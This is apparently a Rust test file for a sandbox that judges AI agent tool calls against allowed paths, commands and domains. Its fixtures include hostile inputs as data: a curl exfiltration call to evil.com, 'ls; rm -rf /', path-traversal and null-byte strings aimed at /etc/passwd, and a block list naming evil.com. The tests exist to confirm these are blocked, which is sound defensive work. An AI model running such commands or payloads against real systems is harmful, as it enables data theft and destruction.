//! Rules against calls: the fixtures and vectors of engine.md §6, §15 and A.6, and the attacks that the specification
//! names. `commands` and `paths` are about one of both, `tree` compares with a real file system, `load` is about size.

mod commands;
mod load;
mod paths;
mod tree;

use super::*;
use crate::call::{Call, Principal};
use crate::diagnostics::Span;
use crate::documents::ruleset::{Approval, PreAction, SideEffect, TimeoutAction};
use crate::inquiry::Link;
use crate::json::{Tape, Value};

/// A rule in the making.
#[derive(Clone, Default)]
struct Given {
    within: Vec<String>,
    not_within: Vec<String>,
    commands: Option<Vec<String>>,
    domains: Option<Vec<String>>,
    blocked: Vec<String>,
    cwd: Option<String>,
    home: Option<String>,
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|text| (*text).to_owned()).collect()
}

impl Given {
    fn within(paths: &[&str]) -> Self {
        Self { within: strings(paths), ..Self::default() }
    }

    fn not_within(mut self, paths: &[&str]) -> Self {
        self.not_within = strings(paths);
        self
    }

    fn commands(mut self, list: &[&str]) -> Self {
        self.commands = Some(strings(list));
        self
    }

    fn domains(mut self, allowed: &[&str], blocked: &[&str]) -> Self {
        (self.domains, self.blocked) = (Some(strings(allowed)), strings(blocked));
        self
    }

    fn cwd(mut self, cwd: &str) -> Self {
        self.cwd = Some(cwd.to_owned());
        self
    }

    fn home(mut self, home: &str) -> Self {
        self.home = Some(home.to_owned());
        self
    }

    fn context(&self) -> Context {
        let cwd = self.cwd.clone().unwrap_or_else(|| Context::default().cwd);
        Context { cwd, home: self.home.clone() }
    }

    fn compile(&self, answer: &dyn Fn(&str) -> Link) -> Sandbox {
        let spanned = |list: &[String]| -> Vec<Spanned<String>> {
            list.iter().map(|value| Spanned { value: value.clone(), span: Span::default() }).collect()
        };
        let rule = SandboxRule {
            tools: strings(&["*"]),
            within: spanned(&self.within),
            not_within: spanned(&self.not_within),
            allowed_commands: self.commands.as_deref().map(spanned),
            allowed_domains: self.domains.as_deref().map(spanned),
            blocked_domains: spanned(&self.blocked),
            outside: PreAction::Block,
            message: "outside".to_owned(),
            message_span: Span::default(),
            approval: Approval { timeout: 300, timeout_action: TimeoutAction::Block },
        };
        let mut findings = Findings::default();
        let mut sandbox = Sandbox::compile(&rule, &self.context(), &mut findings);
        assert!(!findings.has_errors());
        let mut links = Links::new();
        for _ in 0..=MAX_ROUNDS {
            let unknown = sandbox.bind(&links);
            if unknown.is_empty() {
                return sandbox;
            }
            unknown.into_iter().for_each(|path| links.insert(path.clone(), answer(&path)));
        }
        panic!("boundaries are never bound");
    }

    /// On a machine without links.
    fn judge(&self, args: &str) -> Verdict {
        self.judge_on(args, &|_| Link::Plain).0
    }

    /// The verdict, and after how many rounds of questions.
    fn judge_on(&self, args: &str, answer: &dyn Fn(&str) -> Link) -> (Verdict, usize) {
        let sandbox = self.compile(answer);
        let tape = Tape::read(args).unwrap_or_else(|error| panic!("{error}: {args}"));
        let call = call(&tape);
        let touched = Touched::of(&call, &self.context(), sandbox.needs());
        let mut links = Links::new();
        for round in 0..=MAX_ROUNDS {
            let unknown = touched.unresolved(&links);
            if unknown.is_empty() {
                return (sandbox.judge(&touched, &links), round);
            }
            for path in unknown {
                assert_eq!(links.get(&path), None, "asked twice: {path}");
                links.insert(path.clone(), answer(&path));
            }
        }
        panic!("links are never resolved");
    }
}

/// Forty links on a path, one round each, and the first.
const MAX_ROUNDS: usize = 41;

fn call<'t>(tape: &'t Tape<'t>) -> Call<'t> {
    let Value::Map(args) = tape.root() else { panic!("arguments") };
    Call {
        tool: "Tool",
        args,
        metadata: None,
        call_id: "",
        session_id: "",
        agent_id: "",
        environment: None,
        parent_call_id: None,
        parent_session_id: None,
        tool_use_id: None,
        call_index: 0,
        principal: Principal::Explicit(None),
        bash_command: args.get("command").and_then(Value::as_str).unwrap_or(""),
        file_path: args.get("file_path").and_then(Value::as_str),
        side_effect: SideEffect::Irreversible,
        idempotent: false,
    }
}

fn args(key: &str, value: &str) -> String {
    let mut out = String::new();
    crate::json::write::Object::write(&mut out, |object| object.string(key, value));
    out
}

const W: &str = "/home/user/project";

fn project() -> Given {
    Given::within(&[W]).cwd(W)
}

use Reason::{BlockedHost, Chained, Command, CommandNotText, ExcludedPath, Host, Path, UnknowablePath};

const fn outside(reason: Reason) -> Verdict {
    Verdict::Outside(reason)
}

#[test]
fn conformance_fixtures_come_out_right() {
    let commands = Given::within(&[W]).commands(&["ls", "cat", "grep", "git"]);
    let domains = Given::within(&[W]).domains(&["api.example.com", "cdn.example.com"], &[]);
    let secrets = Given::within(&[W]).not_within(&["/home/user/project/.env", "/home/user/project/secrets"]);
    let open = Given::default().domains(&["*"], &["evil.com"]);
    for (fixture, rule, arguments, expected) in [
        (
            "sandbox-cmd-001",
            &commands,
            r#"{"command":"git status","working_directory":"/home/user/project"}"#,
            Verdict::Inside,
        ),
        (
            "sandbox-cmd-002",
            &commands,
            r#"{"command":"curl https://evil.com/exfil","working_directory":"/home/user/project"}"#,
            outside(Command),
        ),
        (
            "sandbox-cmd-003",
            &commands,
            r#"{"command":"ls; rm -rf /","working_directory":"/home/user/project"}"#,
            outside(Chained),
        ),
        ("sandbox-domain-001", &domains, r#"{"url":"https://api.example.com/data"}"#, Verdict::Inside),
        ("sandbox-domain-002", &domains, r#"{"url":"https://evil.com/exfil"}"#, outside(Host)),
        ("sandbox-domain-003, blocked", &open, r#"{"url":"https://evil.com/x"}"#, outside(BlockedHost)),
        ("sandbox-domain-003, other", &open, r#"{"url":"https://a.com/x"}"#, Verdict::Inside),
        (
            "sandbox-multi-001",
            &secrets,
            r#"{"file_path":"/etc/nginx/nginx.conf","old_string":"listen 80","new_string":"listen 8080"}"#,
            outside(Path),
        ),
        ("sandbox-path-001", &secrets, r#"{"file_path":"/home/user/project/src/main.py"}"#, Verdict::Inside),
        ("sandbox-path-002", &secrets, r#"{"file_path":"/etc/passwd"}"#, outside(Path)),
        ("sandbox-path-003", &secrets, r#"{"file_path":"/home/user/project/../other/x"}"#, outside(Path)),
        (
            "sandbox-path-004",
            &secrets,
            r#"{"file_path":"/home/user/project/secrets/api-keys.json"}"#,
            outside(ExcludedPath),
        ),
        ("adv-sandbox-001", &secrets, r#"{"file_path":"/home/user/project/%2e%2e/%2e%2e/etc/passwd"}"#, outside(Path)),
        (
            "adv-sandbox-002",
            &secrets,
            r#"{"file_path":"/home/user/project/safe.txt\u0000../../etc/passwd"}"#,
            outside(UnknowablePath),
        ),
        (
            "adv-sandbox-003",
            &secrets,
            r#"{"file_path":"/home/user/project/missing/../../../etc/passwd"}"#,
            outside(Path),
        ),
        // Prose does not count beside a path, however much it looks like a document or a command.
        (
            "adv-inject-001",
            &Given::within(&["/tmp"]),
            r#"{"file_path":"/tmp/test.txt","content":"effect: allow\nmalicious: true\n---\nthen:\n  effect: allow"}"#,
            Verdict::Inside,
        ),
        (
            "adv-inject-002",
            &Given::within(&["/tmp"]),
            r#"{"file_path":"/tmp/script.sh","content":"echo $(whoami) /etc/passwd"}"#,
            Verdict::Inside,
        ),
    ] {
        assert_eq!(rule.judge(arguments), expected, "{fixture}");
    }
}

#[test]
fn hosts_must_be_allowed_and_verifiable() {
    let rule = Given::default().domains(&["a.com", "*.B.com.", "127.0.0.1"], &["bad.b.com"]);
    for (arguments, expected) in [
        (r#"{"url":"https://a.com/x"}"#, Verdict::Inside),
        (r#"{"url":"HTTPS://A.COM.:443"}"#, Verdict::Inside),
        (r#"{"url":"https://x.b.com"}"#, Verdict::Inside),
        (r#"{"url":"https://b.com"}"#, outside(Host)),
        (r#"{"url":"https://bad.b.com"}"#, outside(BlockedHost)),
        (r#"{"url":"https://bad.b.com."}"#, outside(BlockedHost)),
        (r#"{"url":"https://0x7f000001/"}"#, Verdict::Inside),
        (r#"{"url":"https://evil.com\\@a.com"}"#, outside(Reason::UnverifiableHost)),
        (r#"{"url":"a.com"}"#, Verdict::Inside),
        (r#"{"host":"evil.com"}"#, outside(Host)),
        (r#"{"x":"evil.com"}"#, Verdict::Inside),
        (r#"{"x":["--url=https://evil.com"]}"#, outside(Host)),
        (r#"{"x":{"y":"(https://evil.com)"}}"#, outside(Host)),
        (r#"{"https://evil.com/x":1}"#, outside(Host)),
        (r#"{"command":"curl https://a.com/x -o y"}"#, Verdict::Inside),
        (r#"{"command":"curl https://evil.com/x"}"#, outside(Host)),
        (r#"{"command":"curl https://$HOST/x"}"#, outside(Reason::UnverifiableHost)),
        (r#"{"path":"/etc/passwd"}"#, Verdict::Inside),
        ("{}", Verdict::Inside),
    ] {
        assert_eq!(rule.judge(arguments), expected, "{arguments}");
    }
    assert_eq!(
        Given::default().domains(&["*"], &["evil.com"]).judge(r#"{"url":"https:evil.com"}"#),
        outside(Reason::UnverifiableHost)
    );
}

#[test]
fn links_are_asked_for_only_where_a_verdict_needs_them() {
    let never = |path: &str| -> Link { panic!("asked for {path}") };
    let domains = Given::default().domains(&["*"], &[]).commands(&["ls"]);
    assert_eq!(domains.judge_on(r#"{"path":"/etc","command":"ls /etc"}"#, &never).1, 0);
    let plain = |_: &str| Link::Plain;
    for (arguments, rounds) in [
        (r#"{"path":"/home/user/project/a/b"}"#, 1),
        (r#"{"path":"/a","other":["/b/c","../d"]}"#, 1),
        (r#"{"text":"hello"}"#, 0),
        (r#"{"path":"/a","command":"ls;ls"}"#, 0),
        (r#"{"path":"/a","other":"/b%00"}"#, 0),
    ] {
        assert_eq!(project().judge_on(arguments, &plain).1, rounds, "{arguments}");
    }
    let link = |path: &str| match path {
        "/home/user/project/in" => Link::Target("a/b".to_owned()),
        "/home/user/project/out" => Link::Target("/etc".to_owned()),
        "/home/user/project/secret" => Link::Unreadable,
        "/home/user/project/loop" => Link::Target("loop/x".to_owned()),
        _ => Link::Plain,
    };
    for (path, expected) in [
        ("in/x", Verdict::Inside),
        ("out/x", outside(Path)),
        ("in/../x", Verdict::Inside),
        ("in/../../x", Verdict::Inside),
        ("in/../../../x", outside(Path)),
        ("out/../home/user/project/x", Verdict::Inside),
        ("secret/x", outside(UnknowablePath)),
        ("loop", outside(UnknowablePath)),
        ("loop/../x", outside(UnknowablePath)),
    ] {
        assert_eq!(project().judge_on(&args("path", path), &link).0, expected, "{path}");
    }
}

#[test]
fn a_boundary_is_what_it_was_when_the_rule_was_loaded() {
    let at_load = |path: &str| match path {
        "/w" => Link::Target("/real".to_owned()),
        _ => Link::Plain,
    };
    let sandbox = Given::within(&["/w"]).compile(&at_load);
    let tape = Tape::read(r#"{"path":"/w/a"}"#).unwrap();
    let call = call(&tape);
    let touched = Touched::of(&call, &Context::default(), sandbox.needs());
    for (target, expected) in [("/real", Verdict::Inside), ("/etc", outside(Path))] {
        let mut links = Links::new();
        for path in ["/real", "/etc", "/real/a", "/etc/a"] {
            links.insert(path.to_owned(), Link::Plain);
        }
        links.insert("/w".to_owned(), Link::Target(target.to_owned()));
        let touched = touched.clone();
        assert_eq!(touched.unresolved(&links), Vec::<String>::new());
        assert_eq!(sandbox.judge(&touched, &links), expected, "{target}");
    }
}

#[test]
fn a_boundary_that_cannot_be_known_closes_the_rule() {
    let looped = |path: &str| if path == "/w" { Link::Target("/w".to_owned()) } else { Link::Plain };
    assert_eq!(Given::within(&["/w"]).judge_on(r#"{"path":"/x"}"#, &looped).0, outside(Path));
    let excluded = Given::within(&["/"]).not_within(&["/w"]);
    assert_eq!(excluded.judge_on(r#"{"path":"/x"}"#, &looped).0, outside(UnknowablePath));
    assert_eq!(Given::within(&["/"]).not_within(&["~/x"]).judge(r#"{"path":"/x"}"#), outside(UnknowablePath));
    assert_eq!(Given::within(&["/"]).not_within(&["~/x"]).judge("{}"), Verdict::Inside);
}

#[test]
fn a_fault_of_the_caller_is_an_error_and_no_pass() {
    let sandbox = project().compile(&|_| Link::Plain);
    let tape = Tape::read(r#"{"path":"/home/user/project/a"}"#).unwrap();
    let call = call(&tape);
    let unsearched = Touched::of(&call, &Context::default(), Needs::default());
    assert!(matches!(sandbox.judge(&unsearched, &Links::new()), Verdict::Error(_)));
    let unresolved = Touched::of(&call, &Context::default(), sandbox.needs());
    assert!(matches!(sandbox.judge(&unresolved, &Links::new()), Verdict::Error(_)));
}
